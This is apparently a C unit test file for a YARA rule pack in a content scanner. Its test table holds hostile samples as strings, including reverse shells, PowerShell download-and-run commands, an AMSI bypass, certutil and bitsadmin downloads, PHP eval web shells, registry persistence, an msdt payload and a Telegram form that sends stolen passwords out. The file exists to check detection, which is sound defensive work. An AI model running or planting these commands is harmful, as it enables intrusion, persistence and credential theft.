#include "dissectors/content/yara.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "dissectors/content/content.h"

#define PACK "rules/yara"
#define B64  "JABhAD0AMQA7ACQAYgA9ADIAOwAkAGMAPQAzADsAJABkAD0ANAA7AA"

/* Our own rules: what each is for, and its neighbours that must not fire. */
static const struct {
    const char *rule;
    const char *fires;
    const char *neighbour;
} pack[] = {
    {"powershell_encoded",      "powershell.exe -w hidden -enc " B64,
     "powershell -File backup.ps1 -env production, encoded in base64"                                                                                        },
    {"powershell_encoded",      "PowerShell /EncodedCommand '" B64 "'",
     "curl -e " B64                                                                                                                                          },
    {"powershell_download_run",
     "IEX (New-Object Net.WebClient).DownloadString('http://a.example/')",               "(New-Object Net.WebClient).DownloadFile('http://a.example/', 'x')" },
    {"powershell_download_run", "iwr https://a.example/x.ps1 | iex",
     "Invoke-WebRequest https://a.example/ -OutFile a.html"                                                                                                  },
    {"powershell_amsi_off",
     "[Ref].Assembly.GetType('x.AmsiUtils').GetField('amsiInitFailed')",                 "AMSI is what PowerShell asks; AmsiUtils is a class of it"          },
    {"script_dropper",
     "CreateObject(\"MSXML2.XMLHTTP\") CreateObject(\"ADODB.Stream\")"
     ".SaveToFile p: CreateObject(\"WScript.Shell\").Run p",                             "CreateObject(\"MSXML2.XMLHTTP\") CreateObject(\"ADODB.Stream\") x" },
    {"mshta_inline",            "mshta.exe vbscript:Close(Execute(\"x\"))",
     "mshta is a program of Windows: http://docs.example/mshta"                                                                                              },
    {"regsvr32_scriptlet",
     "regsvr32 /s /n /u /i:http://a.example/x.sct "
     "scrobj.dll",                                                                       "regsvr32 /s library.dll"                                           },
    {"certutil_fetch",          "certutil -urlcache -split -f http://a.example/x x.exe",
     "certutil -verify certificate.cer"                                                                                                                      },
    {"certutil_fetch",          "certutil -decode a.txt a.exe",                          "certutil -encode a b"                                              },
    {"bitsadmin_fetch",         "bitsadmin /transfer j http://a.example/x C:\\x.exe",
     "bitsadmin /list /allusers"                                                                                                                             },
    {"reverse_shell",           "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
     "bash -c 'echo hello > /dev/null'"                                                                                                                      },
    {"reverse_shell",           "nc 192.0.2.1 4444 -e /bin/sh",                          "nc -l 4444"                                                        },
    {"php_shell",               "<?php @eval($_POST['x']); ?>",                          "<?php echo $_GET['x']; ?>"                                         },
    {"php_shell",               "<?php eval(base64_decode($_POST['x']));",
     "<?php eval('1 + 1');"                                                                                                                                  },
    {"persistence_run_key",
     "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a",             "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" },
    {"msdt_document",
     "location.href='ms-msdt:/id PCWDiagnostic /skip force /param "
     "\"IT_RebrowseForFile=? IT_BrowseForFile=$(calc)\"'",                               "ms-msdt: is an address; PCWDiagnostic is a tool"                   },
    {"rtf_equation",            "{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}",
     "Equation.3 in a text: \\objclass Equation.3"                                                                                                           },
    {"rtf_equation",            "{\\rt{\\*\\objdata 02CE020000000000C000000000000046",
     "{\\rtf1{\\*\\objdata 0105000002000000}"                                                                                                                },
    {"telegram_form",
     "<input type=\"password\"><script>fetch('https://api.telegram.org/bot1/"
     "sendMessage')</script>",                                                           "<input type=\"password\"><a href='https://t.example/'>Telegram</a>"},
};

static bool
has_detail(const struct findings *f, const char *rule)
{
    struct cursor c = cur_open(buf_view(&f->details));
    enum finding id;
    struct span detail;

    while (findings_next(&c, &id, &detail))
        if (span_eq(detail, span_str(rule)))
            return true;
    return false;
}

static struct yara *
load(const char *dir, const char *says)
{
    struct yara *y = NULL;
    struct buf message;

    buf_init(&message, 4096);
    assert_int_equal(yara_new(dir, &y, &message), ERR_OK);
    if (says == NULL && message.n > 0)
        fail_msg("%.*s", (int)message.n, message.p);
    if (says != NULL &&
        span_search(buf_view(&message), span_str(says)) == message.n)
        fail_msg("%.*s", (int)message.n, message.p);
    buf_free(&message);
    return y;
}

static void
test_pack(void **state)
{
    struct yara *y = load(PACK, NULL);
    struct findings f;

    (void)state;
    findings_init(&f);
    assert_in_range(yara_rules(y), 10, 99);
    for (size_t k = 0; k < ARRAY_LEN(pack); k++) {
        findings_reset(&f);
        yara_scan(y, span_str(pack[k].fires), &f);
        if (!has_detail(&f, pack[k].rule))
            fail_msg("%s does not fire: %s", pack[k].rule, pack[k].fires);
        findings_reset(&f);
        yara_scan(y, span_str(pack[k].neighbour), &f);
        if (findings_any(&f))
            fail_msg("%s: something fires: %s", pack[k].rule,
                     pack[k].neighbour);
    }
    findings_free(&f);
    yara_free(y);
}

/* ---- folders made here ---- */

static void
write_file(const char *dir, const char *name, const char *text)
{
    char path[256];
    FILE *f;

    (void)snprintf(path, sizeof(path), "%s/%s", dir, name);
    f = fopen(path, "w");
    assert_non_null(f);
    assert_true(fputs(text, f) >= 0);
    assert_int_equal(fclose(f), 0);
}

static void
remove_file(const char *dir, const char *name)
{
    char path[256];

    (void)snprintf(path, sizeof(path), "%s/%s", dir, name);
    assert_int_equal(unlink(path), 0);
}

#define RULE(name, class, word)                                                \
    "rule " name " { meta: " class " strings: $a = \"" word                    \
                                   "\" condition: $a }\n"

static void
test_classes(void **state)
{
    static const struct {
        const char *word;
        bool yara;
        bool risk;
    } words[] = {
        {"word-a",    true,  false},
        {"word-b",    false, true },
        {"word-c",    false, true },
        {"word-none", true,  false},
        {"word",      false, false},
    };
    char dir[] = "yara_testXXXXXX";
    struct findings f;
    struct yara *y;

    (void)state;
    assert_non_null(mkdtemp(dir));
    write_file(dir, "a.yar",
               RULE("ra", "class = \"A\"", "word-a")
                   RULE("rb", "class = \"B\"", "word-b")
                       RULE("rc", "class = \"C\"", "word-c")
                           RULE("rn", "class = 1", "word-none"));
    /* a rule of the same name in another file is another rule */
    write_file(dir, "b.yara", RULE("ra", "x = 1", "other"));
    write_file(dir, "c.txt", "not read");
    y = load(dir, NULL);
    assert_int_equal(yara_rules(y), 5);
    findings_init(&f);
    for (size_t k = 0; k < ARRAY_LEN(words); k++) {
        findings_reset(&f);
        yara_scan(y, span_str(words[k].word), &f);
        assert_int_equal(findings_has(&f, FIND_YARA), words[k].yara);
        assert_int_equal(findings_has(&f, FIND_YARA_RISK), words[k].risk);
    }
    yara_scan(NULL, SPAN_LIT("word-a"), &f);
    findings_free(&f);
    yara_free(y);
    remove_file(dir, "a.yar");
    remove_file(dir, "b.yara");
    remove_file(dir, "c.txt");
    assert_int_equal(rmdir(dir), 0);
}

/* What is wrong is named by file and line, and the rest loads. */
static void
test_errors(void **state)
{
    char dir[] = "yara_testXXXXXX";
    struct buf message;
    struct findings f;
    struct yara *y = NULL;

    (void)state;
    buf_init(&message, 4096);
    assert_int_equal(yara_new("/does/not/exist", &y, &message), ERR_NOENT);
    assert_true(message.n > 0);
    assert_non_null(mkdtemp(dir));
    y = load(dir, NULL);
    assert_int_equal(yara_rules(y), 0);
    findings_init(&f);
    yara_scan(y, SPAN_LIT("word-a"), &f);
    assert_false(findings_any(&f));
    yara_free(y);
    write_file(dir, "a.yar", "rule x {\n condition: nonsense }\n");
    write_file(dir, "b.yar", RULE("ra", "class = \"A\"", "word-a"));
    y = load(dir, "a.yar:2: ");
    assert_int_equal(yara_rules(y), 1);
    yara_scan(y, SPAN_LIT("word-a"), &f);
    assert_true(has_detail(&f, "ra"));
    yara_free(y);
    findings_free(&f);
    buf_free(&message);
    remove_file(dir, "a.yar");
    remove_file(dir, "b.yar");
    assert_int_equal(rmdir(dir), 0);
}

/* Members are scanned as the part is. */
static void
test_every_depth(void **state)
{
    static const char pdf[] =
        "%PDF-1.4\n1 0 obj<</Type/EmbeddedFile/Filter/AHx>>stream\n"
        "3C3F706870206576616C28245F504F53545B27785D293B>\nendstream";
    const struct content_options o = {.yara_dir = PACK};
    const struct content_job job = {.bytes = span_str(pdf)};
    struct content *c = NULL;
    struct content_result r;
    struct buf message;

    (void)state;
    buf_init(&message, 4096);
    assert_int_equal(content_new(&o, &c, &message), ERR_OK);
    content_result_init(&r);
    content_inspect(c, &job, &r);
    assert_true(findings_has(&r.findings, FIND_YARA_RISK));
    assert_true(has_detail(&r.findings, "php_shell"));
    content_result_free(&r);
    content_free(c);
    buf_free(&message);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_pack),
        cmocka_unit_test(test_classes),
        cmocka_unit_test(test_errors),
        cmocka_unit_test(test_every_depth),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
